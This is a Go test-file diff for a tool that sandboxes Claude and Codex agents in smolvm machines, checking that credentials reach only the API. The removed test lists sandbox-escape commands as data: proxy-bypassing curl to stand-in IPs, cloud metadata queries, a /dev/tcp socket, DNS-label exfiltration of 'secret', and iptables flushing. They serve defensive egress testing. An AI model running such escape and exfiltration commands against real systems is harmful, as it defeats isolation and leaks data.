@@ -9,6 +9,7 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"time"
 )
 
 // parentProxy is a proxy of this machine that leads to one place by any name:
@@ -49,10 +50,10 @@ func parentProxy(t *testing.T, listen, to string) string {
 // against a fake of its API: the credential reaches the API and is nowhere else.
 func TestClaudeInAMachine(t *testing.T) {
 	u := newUpstream(t, "api.anthropic.com")
-	h, _ := machineHome(t)
-	value, word := "oauth-"+random(20), "ping-"+random(8)
+	h, fake := machineHome(t, nil)
+	value, word, literal := "oauth-"+random(20), "ping-"+random(8), "literal-"+random(12)
 	h.env = append(h.env, "E2E_CLAUDE_TOKEN="+value)
-	h.bottle("claude", "backend: smolvm\nagent_provider: {template: claude, auth_token: E2E_CLAUDE_TOKEN}\negress:\n"+
+	h.bottle("claude", "backend: smolvm\nagent_provider: {template: claude, auth_token: E2E_CLAUDE_TOKEN}\nenv: {E2E_LITERAL: "+literal+"}\negress:\n"+
 		"  upstream_ca: "+u.ca+"\n  parent: {url: "+parentProxy(t, u.gateway, address(t, u.name))+"}\n  routes:\n    - host: api.anthropic.com\n")
 	agent := h.agent("claude", "claude", "Answer in one word.")
 	r := h.must("run", agent, "-p", word)
@@ -71,6 +72,9 @@ func TestClaudeInAMachine(t *testing.T) {
 	turn, before := make(chan result), u.turns()
 	go func() { turn <- h.run("run", agent, "-p", "think-10s") }()
 	eventually(t, "the API thinks", func() bool { return u.turns() > before })
+	m := &machines{t: t, h: h, fake: fake}
+	found, processes := m.search(agent, value, literal)
+	foundOnly(t, found, processes)
 	nowhere(t, h, value)
 	if r := <-turn; r.code != 0 {
 		t.Errorf("the slow turn: %s", r)
@@ -80,89 +84,78 @@ func TestClaudeInAMachine(t *testing.T) {
 	}
 }
 
-// ofTheKernel are doors of the kernel: a machine has one of its own, and only
-// the fake's guest shares this one's. Where vsock leads in a real machine is not
-// tested here.
-var ofTheKernel = []string{"vsock stream socket", "vsock datagram socket", "io_uring", "user namespace clone", "user namespace unshare"}
-
-// TestNothingGetsOutOfAMachine sends the probe into a machine, next to listeners
-// of this one that would notice.
-func TestNothingGetsOutOfAMachine(t *testing.T) {
-	ear := listen(t)
-	h, _ := machineHome(t)
-	h.bottle("machine", "backend: smolvm\nagent_provider: {template: shell}\negress:\n  routes:\n    - host: allowed.example.com\n")
-	agent, other := h.agent("prober", "machine", ""), h.agent("neighbour", "machine", "")
-	h.must("apply", "-y")
-
-	args := []string{"escape", "-dns", "unknown.example.com", "-dns", "data.allowed.example.com"}
-	targets := []string{"192.0.2.1:80", "192.0.2.1:443", "192.0.2.1:53", "192.0.2.1:853", "[2001:db8::1]:443", "169.254.169.254:80", "[fd00:ec2::254]:80", "224.0.0.251:5353", "224.0.0.252:5355"}
-	for _, ip := range hostAddresses(t) {
-		targets = append(targets, net.JoinHostPort(ip, ear.port))
+// TestCodexInAMachine runs the real Codex in a machine, with the login of this
+// machine lent to it: the token reaches the backend and is nowhere else.
+func TestCodexInAMachine(t *testing.T) {
+	u := newUpstream(t, codexHosts...)
+	u.machines = true
+	p := newPlace(t, u.network)
+	h, fake := machineHome(t, p)
+	h.env = append(h.env, "BB_BACKEND=smolvm")
+	literal := "literal-" + random(12)
+	agent, token := lendsTheLogin(t, h, u, newHostLogin(t, h), literal)
+	value, now := token[len(token)-40:], u.since()
+	turn := make(chan result)
+	go func() { turn <- h.run("run", agent, "-p", "think-10s mark-slow") }()
+	eventually(t, "the backend thinks", func() bool {
+		return slices.ContainsFunc(now(), func(s seen) bool { return slices.Contains(s.Marks, "mark-slow") })
+	})
+	m := &machines{t: t, h: h, p: p, fake: fake}
+	found, processes := m.search(agent, value, literal)
+	foundOnly(t, found, processes)
+	nowhere(t, h, value)
+	if r := <-turn; r.code != 0 {
+		t.Errorf("the slow turn: %s", r)
 	}
-	for _, target := range targets {
-		args = append(args, "-tcp", target, "-udp", target)
+	if holds(m.records(agent), value) {
+		t.Error("what is kept and shown of the machine holds the value")
 	}
-	h.must("cp", probeBinary, agent+":/home/node/probe")
-	r := h.run(append([]string{"exec", agent, "--", "/home/node/probe"}, args...)...)
-	all := parse(t, r.stdout)
-	if r.code != 0 || len(all) < len(args)/2 {
-		t.Errorf("the probe did not finish: %s", r)
-	}
-	answered := false
-	for _, a := range all {
-		if a.Out && !slices.Contains(ofTheKernel, strings.TrimSpace(a.Attempt+" "+a.Target)) {
-			t.Errorf("got out: %s %s: %s", a.Attempt, a.Target, a.Detail)
-		}
-		answered = answered || strings.HasPrefix(a.Attempt, "dns udp 127.0.0.53") && a.Detail == "rcode 3"
-	}
-	if !answered {
-		t.Error("an unknown name is not answered with NXDOMAIN")
-	}
-	if heard := ear.heard(); len(heard) > 0 {
-		t.Errorf("this host was reached: %v", heard)
-	}
-
-	// What a shell would try, past its own proxy variables too.
-	b := bottle{t, h, agent}
-	for what, script := range map[string]string{
-		"E1 no proxy":          "env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy curl -fsS --max-time 5 https://denied.example.com/",
-		"E1 noproxy":           "curl -fsS --noproxy '*' --max-time 5 http://192.0.2.1/",
-		"E1 connect-to":        "curl -fsS --noproxy '*' --connect-to ::192.0.2.1:443 --max-time 5 https://allowed.example.com/",
-		"E2 IPv6":              "curl -fsS --noproxy '*' --max-time 5 'http://[2001:db8::1]/'",
-		"E3 metadata":          "curl -fsS --max-time 5 http://169.254.169.254/latest/",
-		"E3 metadata name":     "curl -fsS --max-time 5 http://metadata.google.internal/",
-		"E3 host.docker":       "getent hosts host.docker.internal",
-		"E4 the host, proxied": "curl -fsS --max-time 5 http://127.0.0.1:" + ear.port + "/",
-		"E4 its loopback":      "curl -fsS --noproxy '*' --max-time 5 http://127.0.0.1:" + ear.port + "/",
-		"E5 own interface":     "ip link set lo down || ip addr add 192.0.2.9/24 dev lo || iptables -F",
-		"E6 ping":              "ping -c1 -W2 192.0.2.1",
-		"A1 labels":            "getent hosts c2VjcmV0.allowed.example.com",
-		"A2 over tcp":          "exec 3<>/dev/tcp/192.0.2.1/53",
-	} {
-		if r := b.shell("bash -c " + quote(script)); r.code == 0 {
-			t.Errorf("%s: %s", what, r)
-		}
-	}
-	if heard := ear.heard(); len(heard) > 0 {
-		t.Errorf("this host was reached: %v", heard)
-	}
-	// The neighbour's door and directory, and bb's own, are not in the machine.
-	state := h.dir + "/state"
-	if got := b.must("ls -d " + state + " /run/bb/ctl /var/lib/bb/ca 2>/dev/null; find / -xdev -type s 2>/dev/null | sort"); strings.Contains(got, h.dir) || strings.Contains(got, "ctl") || strings.Count(got, "\n") > 1 {
-		t.Errorf("sockets and directories in a machine:\n%s", got)
-	}
-	if _, err := os.Stat(state); err != nil {
-		t.Fatal(err)
-	}
-	_ = other
+	resumes(t, h, u, agent)
 }
 
-func quote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }
+// TestAttachInAMachine: smolvm's own terminal follows no change of its size, and
+// dies with nobody: what comes by bb's own way does both.
+func TestAttachInAMachine(t *testing.T) {
+	h, fake := machineHome(t, nil)
+	h.bottle("closed", "agent_provider: {template: shell}\nbackend: smolvm")
+	one := h.agent("one", "closed", "")
+	h.must("apply", "-y")
+	name := containerName(t, h, one)
+	machine := fake.Process(name)
+	attaches(t, h, one, inside{
+		runs: func(text string) bool {
+			return slices.ContainsFunc(processesOf(t, machine), func(line string) bool { return strings.Contains(line, text) })
+		},
+		idle: func() {
+			var left []string
+			for end := time.Now().Add(15 * time.Second); time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
+				if left = append(processesOf(t, machine), commandsWith("exec\x00--name="+name+"\x00")...); len(left) == 0 {
+					return
+				}
+			}
+			t.Errorf("goes on: %q", left)
+		},
+	})
+	if now := fake.Process(name); now != machine {
+		t.Errorf("the machine is another: process %d, then %d", machine, now)
+	}
+}
+
+// commandsWith lists the processes of this machine with text in their arguments.
+func commandsWith(text string) (lines []string) {
+	all, _ := filepath.Glob("/proc/[0-9]*/cmdline") // the pattern is well formed
+	for _, file := range all {
+		if args, _ := os.ReadFile(file); strings.Contains(string(args), text) {
+			lines = append(lines, string(args))
+		}
+	}
+	return lines
+}
 
 // TestFilesOutOfAMachine: no image is made of a machine, and what bb says to do
 // instead works; of one that is off nothing is read, and bb says so.
 func TestFilesOutOfAMachine(t *testing.T) {
-	h, _ := machineHome(t)
+	h, _ := machineHome(t, nil)
 	h.bottle("machine", "backend: smolvm\nagent_provider: {template: shell}\n")
 	agent := h.agent("made", "machine", "")
 	h.must("apply", "-y")
